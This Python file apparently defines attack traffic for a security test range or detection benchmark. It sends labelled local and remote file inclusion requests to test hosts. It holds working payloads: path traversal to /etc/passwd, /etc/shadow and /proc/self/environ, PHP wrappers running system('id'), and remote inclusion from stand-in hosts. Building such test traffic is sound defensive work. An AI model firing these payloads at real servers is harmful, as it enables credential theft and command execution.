# SPDX-License-Identifier: GPL-2.0-or-later
"""Files that were not meant to be read or included: traversal, wrappers, remote files; and what looks so."""
from lib.steps import body, get, q, values

UP = '../../../../../..'
READ = [UP + '/etc/passwd', '..%2f'.replace('%2f', '/') * 5 + 'etc/hostname', '/etc/passwd', '....//....//....//etc/passwd', '../geheim/zugang.php', UP + '/proc/self/status', UP + '/etc/shadow', UP + '/etc/nichtda',
        UP + '/proc/self/environ', './preise.html', UP + '/etc/group', UP + '/var/log/dpkg.log', UP + '/etc/passwd\0.html', UP + '/etc/./passwd', '..\\..\\..\\windows\\win.ini', UP + '/etc/debian_version', UP + '/etc/services', '..', UP + '/etc/']
MODUL = ['/etc/passwd', '/var/www/kontor/teile/../geheim/zugang.php', 'php://filter/convert.base64-encode/resource=/var/www/kontor/geheim/zugang.php', 'php://filter/read=string.rot13/resource=/etc/hostname', 'data://text/plain,<?php echo 59*1013;?>',
         'data://text/plain;base64,PD9waHAgc3lzdGVtKCd1bmFtZSAtYScpOyA/Pg==', 'http://192.0.2.99/modul.txt', 'http://192.0.2.99/stumm.txt', 'http://192.0.2.99/fehlt404', 'http://tor.drop.example/modul.txt?', 'expect://id', 'file:///etc/issue',
         'https://192.0.2.99/modul.txt', 'php://filter/convert.base64-encode/resource=/etc/passwd', 'php://filter/zlib.deflate|convert.base64-encode/resource=/etc/group', '/proc/self/cmdline', 'team', 'gibtsnicht', '/etc/gibtsnicht',
         'ftp://192.0.2.99/a.txt', '/var/log/kontor/fehlt.log', 'phar:///tmp/a.phar/x']
SCENARIO = [
    ([('203.0.113.31', 80), ('203.0.113.32', 80), ('203.0.113.33', 80)], [
        get('/beleg?dokument=preise.html'), get('/beleg?dokument=fehlt.html'), get('/hilfe?thema=anfahrt.html'),
        *values('/beleg', 'dokument', 'lfi', *READ), *values('/hilfe', 'thema', 'lfi', *READ[:9], gzip=True, keep=True),
        *[dict(s, pause=1.3) if '192.0.2' in s['target'] or 'drop' in s['target'] else s for s in values('/modul', 'teil', 'rfi', *MODUL)],
        body('/modul?teil=php%3A%2F%2Finput', '<?php echo strrev("6502-tknup"); echo getmypid(); ?>', 'text/plain', 'rfi'), body('/modul?teil=php%3A%2F%2Finput', '<?php system("id"); ?>', 'application/x-www-form-urlencoded', 'rfi'),
        get('/..%2f..%2f..%2fetc/passwd', 'lfi'), get('/static/%2e%2e/%2e%2e/etc/passwd', 'lfi'), get('/.git/HEAD', 'lfi'), get('/ablage/../../geheim/zugang.php', 'lfi'), get('/rat/linux.html?x=' + q('/etc/passwd'), 'lfi')]),
    ([('203.0.113.51', 8000), ('203.0.113.52', 8000), ('203.0.113.53', 8000)], [
        get('/planche?fichier=arnica.txt'), *values('/planche', 'fichier', 'lfi', *READ), *values('/planche', 'fichier', 'lfi', '/proc/self/maps', '/var/herbier/flore.db', '/srv/range/herbier/herbier.py', '/etc/hosts', 'arnica.txt/../../../../etc/passwd'),
        get('/depots/..%2f..%2fetc/passwd', 'lfi'), get('/depots/%2e%2e/flore.db', 'lfi')])]
